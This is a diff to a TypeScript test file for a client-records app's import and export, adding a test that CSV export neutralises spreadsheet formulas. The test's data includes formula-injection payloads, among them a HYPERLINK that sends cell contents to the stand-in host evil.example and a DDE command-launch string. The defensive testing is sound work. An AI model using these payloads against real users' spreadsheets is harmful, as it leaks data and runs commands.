@@ -4,6 +4,7 @@
 // office, and are logged; only owners and lawyers may do either.
 import ExcelJS from 'exceljs';
 import fs from 'node:fs';
+import Papa from 'papaparse';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { auditLog } from '../../db/schema';
@@ -163,7 +164,7 @@ describe('the import', () => {
     const progress: string[] = [];
     const { importFile } = await import('../../main/services/transfer');
     const session = app.sessions.resolve(token);
-    const result = await importFile({ ...app, session: session as never }, file, (p) => progress.push(`${p.phase} ${p.done}/${p.total}`));
+    const result = await importFile({ ...app, session: session as never, origin: { clientAddress: 'local' } }, file, (p) => progress.push(`${p.phase} ${p.done}/${p.total}`));
     expect(result).toEqual({ imported: 2, skipped: 1, family: 2, incomes: 2 });
     expect(progress).toEqual(['validate 8/8', 'write 2/2']);
 
@@ -304,6 +305,19 @@ describe('the export', () => {
     const again = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv', query: 'אברהם' }));
     expect(again).toEqual({ file: path.join(folder, 'mitzui-clients-2026-03-01-1000-2.csv'), count: 1 });
     expect(auditActions('export')[1]).toMatchObject({ details: { count: 1, query: 'אברהם' } });
+  });
+
+  it('escapes every cell a spreadsheet could run as a formula, a newline inside it or not', async () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1)\n&""', '+1+cmd|\' /C calc\'!A0', '-2+3\r\n', '@SUM(A1:A9)'];
+    for (const [n, street] of payloads.entries()) {
+      expectOk(await app.call(token, 'clients.create', { idNumber: validId(`0080808${n}`), firstNameHe: 'טל', lastNameHe: 'כץ', birthDate: '1970-01-01', sex: 'female', street }));
+    }
+    const { file } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }));
+    const rows = Papa.parse<string[]>(fs.readFileSync(file, 'utf8').slice(1), { skipEmptyLines: true }).data;
+    const column = rows[0]!.indexOf('רחוב');
+    const streets = rows.slice(1).map((row) => row[column]!).filter((cell) => cell !== '');
+    expect(streets).toHaveLength(payloads.length);
+    for (const cell of streets) expect(cell.startsWith("'")).toBe(true);
   });
 
   it('exports an office of more clients than SQLite takes values in one statement', async () => {
